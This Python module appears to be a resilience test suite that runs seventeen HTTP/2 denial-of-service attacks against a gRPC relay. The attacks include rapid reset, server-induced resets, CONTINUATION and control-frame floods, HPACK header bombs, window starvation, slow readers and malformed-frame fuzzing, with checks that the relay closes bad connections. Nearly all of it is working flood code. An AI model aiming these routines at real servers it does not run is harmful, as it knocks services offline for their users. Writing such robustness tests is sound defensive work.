# SPDX-License-Identifier: Apache-2.0
"""Attacks by means of HTTP/2."""

import time

from kit import check
from wire import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                  Peer, export, flood, frame, head, hello, literal, hpack_int, message, play, setting)


def rapid_reset(t, long):
    total, sent, connections = 100_000 if long else 4000, 0, 0
    block = head()
    # 4,000 streams a connection: a GOAWAY ends it long before.
    start = hello() + b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) + frame(RST_STREAM, 0, 2 * i + 1, b"\0\0\0\x08") for i in range(4000))
    each = (len(start) - len(hello())) // 4000
    while sent < total:
        peer = Peer(t.grpc, start)
        play([peer], 10)
        sent, connections = sent + max(1, (peer.at - len(hello())) // each), connections + 1
        peer.close()
    return f"{sent} streams, each reset at once, over {connections} connections"


def reset_by_server(t, long):
    """Makes the relay reset its own streams (CVE-2025-8671): WINDOW_UPDATE of 0 on each."""
    total, sent, connections = 20_000 if long else 2000, 0, 0
    block = head()
    start = hello() + b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) + frame(WINDOW_UPDATE, 0, 2 * i + 1, b"\0\0\0\0") for i in range(2000))
    while sent < total:
        peer = Peer(t.grpc, start)
        play([peer], 10)
        sent, connections = sent + 2000, connections + 1
        peer.close()
    return f"{sent} streams that the relay has to reset, over {connections} connections"


def continuations(t, long):
    chunk = frame(CONTINUATION, 0, 1, b"")
    big = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 16000))
    start = hello() + frame(HEADERS, 0, 1, head())
    n1, c1 = flood(t.grpc, chunk, 100_000 if long else 5000, start=start)
    n2, c2 = flood(t.grpc, big, 2000 if long else 50, start=start)
    return f"{n1} empty and {n2} 16 KiB CONTINUATION frames without an end, over {c1 + c2} connections"


def many(label, name, chunk, count=100_000, few=20_000, start=None):
    def attack(t, long):
        total = count if long else few
        a, c1 = flood(t.grpc, chunk, total, start=start)
        b, c2 = flood(t.grpc, chunk, total, reads=False, start=start)
        return f"{a} {name} with reading the answers, {b} without, over {c1 + c2} connections"
    attack.__name__ = label
    return attack


settings_flood = many("settings_flood", "SETTINGS", frame(SETTINGS, 0, 0, setting(4, 65535)))
ping_flood = many("ping_flood", "PING", frame(PING, 0, 0, b"12345678"))
window_flood = many("window_flood", "WINDOW_UPDATE", frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"))
priority_flood = many("priority_flood", "PRIORITY", frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"))
empty_data = many("empty_data", "empty DATA frames", frame(DATA, 0, 1), start=hello() + frame(HEADERS, END_HEADERS, 1, head()))
unknown_frames = many("unknown_frames", "frames of an unknown kind", frame(0xBB, 0, 0, b"x" * 100))
ack_flood = many("ack_flood", "SETTINGS acknowledgements", frame(SETTINGS, ACK, 0))


def header_bombs(t, long):
    """One entry of 4,000 bytes in the table, then named again and again; and plain long lists."""
    peers = []
    for _ in range(40 if long else 8):
        store = literal(b"x", b"y" * 3900, index=True)
        block = head(more=store + hpack_int(62, 7, 0x80) * 12000)
        peers.append(Peer(t.grpc, hello() + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, block if i == 1 else head(more=hpack_int(62, 7, 0x80) * 15000))
                                                      for i in range(1, 81, 2))))
        peers.append(Peer(t.grpc, hello() + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, head(more=literal(b"", b"") * 2000 if i % 4 == 1
                                                      else literal(b"k", b"v" * 15000))) for i in range(1, 81, 2))))
        peers.append(Peer(t.grpc, hello() + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, head(more=b"".join(
            literal(b"k%d" % j, b"") for j in range(1500)))) for i in range(1, 21, 2))))
    play(peers, 30)
    # By reference it is no mistake any more: the connection ends.
    check(play(peers, 20, until=lambda: all(p.closed for p in peers[::3])), "a list of many times the limit ends its connection")
    for peer in peers:
        peer.close()
    return f"{len(peers)} connections with lists of 57 MB by reference, of 2,000 empty names, of 1,500 names, 40 streams each"


def shut_windows(t, long):
    """Answers that the peer's window never lets out; then windows past their end."""
    start = hello(setting(4, 0))
    body = b"".join(export(i, b"") for i in range(1, 255, 2))
    peers = [Peer(t.grpc, start + body) for _ in range(20 if long else 5)]
    play(peers, 10)
    overflow = Peer(t.grpc, hello() + frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff"))
    check(play([overflow], 10, until=lambda: overflow.closed), "a window past 2^31 ends the connection")
    if long:  # 10 s: then the relay resets them
        check(play(peers, 25, until=lambda: all(bytes(p.got).count(b"\0\0\x04\x03") >= 100 or p.closed for p in peers)),
              "answers that cannot be sent end in time")
    for peer in peers:
        peer.close()
    return f"{len(peers)} connections with a window of 0 and 127 requests each; a window past 2^31"


def slow_reader(t, long):
    """Reads nothing at all, on a receive buffer of 4 KiB."""
    body = hello() + b"".join(export(i, b"\x0a\x00") for i in range(1, 8001, 2))
    peers = [Peer(t.grpc, body, reads=False, small=True) for _ in range(20 if long else 4)]
    play(peers, 5 if long else 1)
    sent = sum(p.at for p in peers)
    for peer in peers:
        peer.close()
    return f"{len(peers)} connections that send {sent // 1000} kB of requests and read no answer"


def left_streams(t, long):
    """Streams opened and left, each with a head that says 1 MiB follows."""
    start = hello() + b"".join(frame(HEADERS, END_HEADERS, i, head()) + frame(DATA, 0, i, message(b"", length=1 << 20)) for i in range(1, 257, 2))
    peers = [Peer(t.grpc, start) for _ in range(40 if long else 10)]
    play(peers, 10)
    time.sleep(3 if long else 0.5)  # the time in which honest senders must be served
    for peer in peers:
        peer.close()
    return f"{len(peers)} connections with 128 streams, each with a message of 1 MiB declared and not sent"


def too_many_streams(t, long):
    start = hello() + b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, head()) for i in range(20_000 if long else 3000))
    peers = [Peer(t.grpc, start, reads=reads) for reads in (True, False) for _ in range(3)]
    play(peers, 5 if long else 1)
    for peer in peers:
        peer.close()
    return f"{len(peers)} connections with {20000 if long else 3000} streams at once"


def slow_body_grpc(t, long):
    start = hello() + b"".join(frame(HEADERS, END_HEADERS, i, head()) + frame(DATA, 0, i, message(b"", length=100)) for i in range(1, 257, 2))
    peers = [Peer(t.grpc, start) for _ in range(10)]
    for _ in range(60 if long else 4):
        for peer in peers:
            peer.send_more(b"".join(frame(DATA, 0, i, b"\x0a") for i in range(1, 257, 2)))
        play(peers, 5)
        time.sleep(0.1 if not long else 0.6)
    if long:
        check(all(p.closed or p.got.count(b"\0\0\x04\x03") > 0 for p in peers), "slow requests end after 30 s")
    for peer in peers:
        peer.close()
    return f"{len(peers)} connections with 128 bodies, a byte at a time"


def goaway_and_junk(t, long):
    """What no grammar knows, and frames at the wrong place or of a wrong length."""
    shapes = [frame(k, f, s, b"x" * n) for k in range(12) for f in (0, 1, 4, 8, 0x20, 0xFF) for s in (0, 1, 2) for n in (0, 1, 5, 8, 300)]
    if not long:
        shapes = shapes[::9]
    shapes += [b"\xff" * 9, b"\xff\xff\xff\0\0\0\0\0\x01", frame(GOAWAY, 0, 0, b"\0" * 8)]
    opened = hello() + frame(HEADERS, END_HEADERS, 1, head())
    for at in range(0, len(shapes), 50):
        peers = [Peer(t.grpc, start + shape) for shape in shapes[at : at + 50] for start in (opened, hello(), b"")]
        play(peers, 5)
        for peer in peers:
            peer.close()
    return f"{3 * len(shapes)} connections with a frame of wrong kind, flags, stream or length"


ATTACKS = [rapid_reset, reset_by_server, continuations, settings_flood, ack_flood, ping_flood, window_flood, priority_flood, empty_data,
           unknown_frames, header_bombs, shut_windows, slow_reader, left_streams, too_many_streams, slow_body_grpc, goaway_and_junk]
